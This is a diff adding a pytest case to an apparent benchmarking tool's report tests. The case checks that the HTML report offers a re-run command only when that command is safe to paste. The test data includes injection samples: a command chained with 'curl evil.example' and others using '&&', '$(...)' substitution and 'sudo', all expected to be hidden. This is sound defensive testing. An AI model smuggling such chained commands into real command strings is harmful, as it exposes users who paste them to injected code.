@@ -68,6 +68,22 @@ def test_the_policy_allows_this_style_and_this_script_and_nothing_else(page: str
     assert rules == dict.fromkeys(("default-src", "base-uri", "form-action"), "'none'")
 
 
+@pytest.mark.parametrize(
+    ("command", "is_shown"),
+    [
+        ("torchmark run mlp/infer:batch=8@cpu/float32+threads=2 --rigor default --budget 60s", True),
+        ("torchmark run mlp; curl evil.example", False),
+        ("torchmark run mlp && true", False),
+        ("torchmark run $(true)", False),
+        ("sudo torchmark run mlp", False),
+    ],
+)
+def test_only_a_command_that_is_safe_to_paste_is_offered(wide_run: Run, command: str, is_shown: bool) -> None:
+    page = render_report([replace(wide_run, header=replace(wide_run.header, command=command))], "0.1.0")
+    assert ("Do it again" in page) is is_shown
+    assert (command in page) is is_shown
+
+
 def test_nothing_in_it_needs_more_than_the_policy_allows(page: str) -> None:
     for tag, attributes in Tags(page).tags:
         assert tag not in ("link", "img", "iframe", "object", "form", "base")
